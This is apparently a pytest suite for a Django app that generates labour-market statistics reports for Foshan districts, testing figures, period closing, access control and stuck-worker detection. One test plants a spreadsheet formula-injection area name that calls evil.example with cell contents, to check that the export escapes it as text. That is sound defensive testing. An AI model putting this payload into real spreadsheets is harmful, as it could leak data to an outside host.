"""Reports: built by a task from the stored facts; every figure printed equals a
count made independently from the registries; a closed period rebuilds with the
same figures; leaders only see their own area."""

import datetime
import io
import subprocess
from decimal import Decimal

import pytest
from django.db.models import Sum
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from jobs.models import JobPosting
from portal.models import OrgUnit
from stats import reports, services, tasks
from stats.models import ClosedPeriod, Fact, Report
from stats.periods import Period
from tests import factories

LIST = reverse("stats:report_list")


def pdf_text(report: Report) -> str:
    with report.pdf.open("rb") as file:
        data = file.read()
    assert data.startswith(b"%PDF")
    return subprocess.run(
        ["pdftotext", "-layout", "-", "-"], input=data, capture_output=True, check=True
    ).stdout.decode()


def workbook(report: Report) -> dict[str, list[tuple]]:
    with report.xlsx.open("rb") as file:
        book = load_workbook(io.BytesIO(file.read()))
    return {sheet.title: list(sheet.iter_rows(values_only=True)) for sheet in book}


def sheet_rows(report: Report, title: str) -> list[tuple]:
    return workbook(report)[title]


def test_a_leader_makes_a_monthly_report_whose_figures_match_the_registries(
    client,
    leader,
    foshan,
    market,
    django_capture_on_commit_callbacks,
):
    period = Period.containing("month", timezone.localdate())
    client.force_login(leader)
    form = {"kind": "month", "period": period.slug, "unit": foshan["city"].pk}
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(LIST, form)
    report = Report.objects.get()
    assert response.url == report.get_absolute_url()
    assert report.status == "done" and report.progress == 100
    demand = JobPosting.objects.exclude(published_at__isnull=True).aggregate(
        total=Sum("headcount")
    )["total"]
    text = pdf_text(report)
    assert "佛山市" in text and f"{demand}" in text
    [header, total, *rows] = sheet_rows(report, "按职业大类分组")
    assert total[1] == demand and total[5] == 2  # two seekers with resumes
    production = next(row for row in rows if row[0] == "生产制造及有关人员")
    assert (
        production[1]
        == JobPosting.objects.filter(
            occupation_group="6", published_at__isnull=False
        ).aggregate(total=Sum("headcount"))["total"]
    )
    assert leader.notifications.filter(url=report.get_absolute_url()).exists()
    download = reverse("stats:report_download", args=[report.code, "pdf"])
    assert client.get(download)["Content-Type"] == "application/pdf"


def test_the_spreadsheet_shows_a_hostile_area_name_as_text_and_keeps_numbers(
    foshan, market
):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    OrgUnit.objects.filter(pk=foshan["chancheng"].pk).update(name=hostile)
    context = reports.report_context(
        foshan["city"], Period.containing("month", timezone.localdate())
    )
    context["key_rows"][0][1]["mom"] = Decimal("-12.50")
    book = load_workbook(io.BytesIO(reports.xlsx(context)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    [area] = [cell for cell in cells if hostile in str(cell.value)]
    assert area.value == "'" + hostile
    [key_figures, *_sheets] = book
    [_unit, _heading, ratio, *_rows] = key_figures.iter_rows()
    assert ratio[2].data_type == "n" and ratio[2].value == -12.5


def test_a_closed_periods_report_rebuilds_with_the_same_figures(
    foshan,
    market,
    leader,
    employer,
):

    last_month = Period.containing("month", timezone.localdate()).previous()
    factories.backdate_postings(40)
    services.close_period(last_month, by=leader)
    first = services.build_report(
        Report.objects.create(period_kind="month", period_start=last_month.start,
                              org_unit=foshan["city"], requested_by=leader)
    )  # fmt: skip
    factories.make_posting(employer.employer, headcount=40)
    factories.backdate_postings(40)
    second = services.build_report(
        Report.objects.create(period_kind="month", period_start=last_month.start,
                              org_unit=foshan["city"], requested_by=leader)
    )  # fmt: skip
    assert first.is_final and second.is_final
    assert workbook(first) == workbook(second)  # every sheet, every cell

    def figures_only(text):
        return [line for line in text.splitlines() if "生成" not in line]

    assert figures_only(pdf_text(first)) == figures_only(pdf_text(second))


def test_a_district_leader_reports_on_their_district_only(client, foshan):
    district_leader = factories.make_staff("leader", org_unit=foshan["chancheng"])
    client.force_login(district_leader)
    period = Period.containing("month", timezone.localdate()).slug
    for unit in (foshan["city"], foshan["nanhai"]):
        response = client.post(LIST, {"kind": "month", "period": period,
                                      "unit": unit.pk})  # fmt: skip
        assert response.status_code == 200 and not Report.objects.exists()
    this_month = timezone.localdate().replace(day=1)
    other = Report.objects.create(
        period_kind="month", period_start=this_month, org_unit=foshan["nanhai"]
    )
    assert client.get(other.get_absolute_url()).status_code == 404


def test_the_period_must_match_the_kind(client, leader, foshan):
    client.force_login(leader)
    response = client.post(LIST, {"kind": "quarter", "period": "2026-10",
                                  "unit": foshan["city"].pk})  # fmt: skip
    assert response.context["form"].errors["period"]


@pytest.mark.django_db
def test_last_months_reports_are_made_for_the_city_and_each_district(
    foshan, leader, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        assert tasks.last_months_reports() == 3
    assert Report.objects.filter(status="done").count() == 3
    assert set(Report.objects.values_list("org_unit__level", flat=True)) == {
        "city",
        "district",
    }
    assert leader.notifications.count() == 3  # a city leader hears of all three


@pytest.mark.django_db
def test_a_retry_of_last_months_reports_makes_only_those_the_killed_run_had_not(
    foshan,
):
    last_month = Period.containing("month", timezone.localdate()).previous()
    services.request_report(last_month, foshan["city"], by=None)
    assert tasks.last_months_reports() == 2
    assert Report.objects.count() == 3
    assert tasks.last_months_reports() == 0


def test_a_report_whose_worker_keeps_dying_is_reported_as_stuck(
    client, foshan, market, settings, monkeypatch
):
    settings.STUCK_WORK_SECONDS = 900
    started = timezone.now() - datetime.timedelta(minutes=20)
    report = Report.objects.create(
        period_kind="month",
        period_start=timezone.localdate().replace(day=1),
        org_unit=foshan["city"],
        status=Report.Status.RUNNING,
        started_at=started,
    )

    def killed(*args, **kwargs):
        raise SystemExit  # the worker ends mid-build, no handler runs

    monkeypatch.setattr("stats.reports.pdf", killed)
    with pytest.raises(SystemExit):
        services.build_report(report)  # the retry dies too
    report.refresh_from_db()
    assert report.status == "running" and report.started_at == started
    response = client.get("/healthz")
    assert response.status_code == 503
    assert response.json()["stuck"]["reports"]["count"] == 1

    monkeypatch.undo()
    assert services.build_report(report).status == "done"
    assert client.get("/healthz").json()["stuck"] == {}


def test_only_the_area_may_download_and_only_city_leaders_close(
    client, foshan, leader, caseworker, django_capture_on_commit_callbacks
):
    period = Period.containing("month", timezone.localdate()).previous()
    with django_capture_on_commit_callbacks(execute=True):
        report = services.request_report(period, foshan["nanhai"], by=leader)
    download = reverse("stats:report_download", args=[report.code, "pdf"])
    district_leader = factories.make_staff("leader", org_unit=foshan["chancheng"])
    client.force_login(district_leader)
    assert client.get(download).status_code == 404  # another district's report
    close = reverse("stats:period_close")
    client.post(close, {"period": period.slug})
    assert not ClosedPeriod.objects.exists()  # a district leader cannot close
    client.force_login(caseworker)  # a district caseworker has no statistics
    assert client.get(download).status_code == 403
    assert client.post(close, {"period": period.slug}).status_code == 403
    client.force_login(leader)
    assert client.get(download).status_code == 200
    client.post(close, {"period": period.slug})
    assert ClosedPeriod.is_closed(period)


def test_a_closed_months_report_keeps_its_comparisons_when_the_month_before_changes(
    foshan, market, leader, employer
):
    november = Period.containing("month", timezone.localdate()).previous()
    october = november.previous()
    factories.backdate_postings(40)
    services.close_period(november, by=leader)

    def build():
        return services.build_report(
            Report.objects.create(period_kind="month", period_start=november.start,
                                  org_unit=foshan["city"], requested_by=leader)
        )  # fmt: skip

    first = build()
    factories.make_posting(employer.employer, headcount=40)
    factories.backdate_postings(70)
    before = Fact.objects.for_period(october).get(
        org_unit=foshan["city"], indicator="demand", dimension=""
    )
    services.refresh_facts(october)  # October is still open
    after = Fact.objects.for_period(october).get(
        org_unit=foshan["city"], indicator="demand", dimension=""
    )
    assert after.value != before.value
    second = build()
    assert workbook(first) == workbook(second)  # every sheet, every cell
    assert pdf_text(first) == pdf_text(second)  # every word, the dates too
    demand = next(row for row in sheet_rows(second, "主要指标") if row[0] == "需求人数")
    assert demand[2] == 0  # 环比 against October as it was at closing: 9 → 9
    closed = ClosedPeriod.objects.get()
    assert f"{closed.closed_at:%Y}年" in pdf_text(second)
